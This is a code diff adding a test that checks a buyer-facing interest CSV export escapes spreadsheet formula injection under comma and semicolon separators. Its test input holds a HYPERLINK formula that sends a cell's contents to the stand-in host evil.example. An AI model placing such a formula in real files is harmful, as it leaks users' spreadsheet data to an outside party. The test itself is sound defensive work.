@@ -17,6 +17,7 @@ from fastapi.testclient import TestClient
 
 from notifications.senders.outbox import OutboxSender
 from radar.buyers import add_buyer, publish, withdraw
+from radar.interest import raise_hand
 from radar.pipeline import active_subscribers, match_and_queue, open_store, send_due
 from radar.web.app import create_app
 from radar.web.auth import hash_password
@@ -157,3 +158,19 @@ def test_a_withdrawn_notice_takes_no_more_interest(settings: Settings, store: St
     withdraw(store, org, notice_id, "token:test")
     answer = TestClient(create_app(settings)).get(link)
     assert answer.status_code == 400 and "withdrawn" in answer.text
+
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_cell_of_the_interest_csv_runs_as_a_formula_whichever_separator_excel_uses(
+    settings: Settings, store: Store, notice_id: str
+) -> None:
+    note = 'Vi städar; =HYPERLINK("https://evil.example/?x="&A1;"Läs mer")'  # invented; "," splits it in Excel too
+    raise_hand(settings, store, "dala-stad", notice_id, note=note, capacity="+46 70 000 00 00", share_contact=True)
+    text = logged_in(settings, "dala").get(f"/buyer/notices/{notice_id}/interest.csv").text.lstrip("\ufeff")
+    for separator in (",", ";"):  # Excel in a Swedish locale splits at ";"
+        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
+        assert not [cell for cell in cells if cell.lstrip()[:1] in FORMULA_START], separator
+    (row,) = table(text)
+    assert row["note"] == note.replace("; =", "; '=") and row["capacity"] == "'+46 70 000 00 00"
